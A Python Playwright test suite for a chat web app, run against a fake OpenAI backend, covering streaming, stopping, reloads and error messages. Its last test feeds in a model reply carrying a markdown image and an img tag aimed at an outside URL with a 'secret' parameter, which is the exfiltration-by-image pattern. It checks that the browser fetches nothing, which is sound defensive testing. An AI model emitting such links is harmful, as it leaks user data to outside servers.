"""Chat as a person uses it: stop, switch, reload, and a reply that wants to phone home."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.pages import alerts, chat_messages, expect_no_traceback, navigate, open_page, say, stop_button
from tests.browser.servers import AppServer
from tests.browser.watching import PageWatch
from tests.fake_openai import FakeOpenAI
from tests.fake_openai.steps import Finish, Stall, Status, Text

pytestmark = pytest.mark.browser
StartApp = Callable[..., AppServer]
Shot = Callable[[str], Path]


def test_a_reply_streams_and_stop_keeps_what_came(
    app_server: StartApp, page: Page, fake_openai: FakeOpenAI, shot: Shot
) -> None:
    fake_openai.reply(Text("Once upon a time ", "there was ", delay_s=0.05), Stall(), Text("an end."), Finish())
    open_page(page, app_server(fake=fake_openai).url, "/chat")
    say(page, "Tell me a story")
    expect(chat_messages(page).nth(1)).to_contain_text("there was")
    shot("chat-streaming")
    # The model would stall for ever; how fast Stop acts is measured by `make bench ONLY=chat`.
    stop_button(page).click()
    assert fake_openai.cancelled.wait(10)
    expect(chat_messages(page).nth(1)).to_contain_text("Stopped. What had arrived is kept.")
    expect(chat_messages(page).nth(1)).to_contain_text("Once upon a time there was")
    expect(chat_messages(page).nth(1)).to_contain_text("gpt-6-luna")
    shot("chat-stopped")
    page.reload()
    expect(chat_messages(page).nth(1)).to_contain_text("Once upon a time there was")
    expect_no_traceback(page)


def test_leaving_the_page_keeps_what_came(app_server: StartApp, page: Page, fake_openai: FakeOpenAI) -> None:
    fake_openai.reply(Text("half a reply "), Stall(), Finish())
    open_page(page, app_server(fake=fake_openai).url, "/chat")
    say(page, "Begin")
    expect(chat_messages(page).nth(1)).to_contain_text("half a reply")
    navigate(page, "Costs")
    assert fake_openai.cancelled.wait(10)
    navigate(page, "Chat")
    expect(chat_messages(page)).to_have_count(2)
    expect(chat_messages(page).nth(1)).to_contain_text("half a reply")


def test_a_closed_tab_keeps_what_came(app_server: StartApp, page: Page, fake_openai: FakeOpenAI) -> None:
    fake_openai.reply(Text("half a reply "), Stall(), Finish())
    server = app_server(fake=fake_openai)
    open_page(page, server.url, "/chat")
    say(page, "Begin")
    expect(chat_messages(page).nth(1)).to_contain_text("half a reply")
    address = page.url
    page.goto("about:blank")
    assert fake_openai.cancelled.wait(30)
    # What came is stored a moment after the call was cancelled.
    for _ in range(20):
        open_page(page, address, "")
        if chat_messages(page).count() == 2:
            break
    expect(chat_messages(page).nth(1)).to_contain_text("half a reply")


def test_reload_keeps_the_conversation_and_a_new_tab_opens_it(
    app_server: StartApp, page: Page, fake_openai: FakeOpenAI
) -> None:
    fake_openai.reply(Text("Good day"), Finish())
    open_page(page, app_server(fake=fake_openai).url, "/chat")
    say(page, "Hello there")
    expect(chat_messages(page).nth(1)).to_contain_text("Good day")
    assert re.search(r"conversation=[0-9a-f]{32}", page.url)
    page.reload()
    expect(chat_messages(page)).to_have_count(2)
    with page.context.new_page() as second:
        second.goto(page.url)
        expect(chat_messages(second).nth(1)).to_contain_text("Good day")


def test_a_failure_is_one_sentence_and_what_was_typed_is_kept(
    app_server: StartApp, page: Page, fake_openai: FakeOpenAI, shot: Shot
) -> None:
    fake_openai.script(Status(401, "invalid_api_key"), (Text("At last"), Finish()))
    open_page(page, app_server(fake=fake_openai).url, "/chat")
    say(page, "Are you there?")
    expect(alerts(page)).to_contain_text("does not accept the API key")
    shot("chat-failed")
    page.reload()
    expect(chat_messages(page).first).to_contain_text("Are you there?")
    page.get_by_role("button", name="Ask again").click()
    expect(chat_messages(page).nth(1)).to_contain_text("At last")
    expect_no_traceback(page)


def test_a_reply_cannot_make_the_browser_fetch_anything(
    app_server: StartApp, page: Page, fake_openai: FakeOpenAI, watch: PageWatch
) -> None:
    watch.violations_expected = True
    fake_openai.reply(
        Text("![x](http://example.com/leak.png?secret=1) <img src='http://example.com/2.png'> done"), Finish()
    )
    open_page(page, app_server(fake=fake_openai).url, "/chat")
    say(page, "Leak something")
    expect(chat_messages(page).nth(1)).to_contain_text("done")
    page.wait_for_load_state("networkidle")
    assert watch.foreign == ()
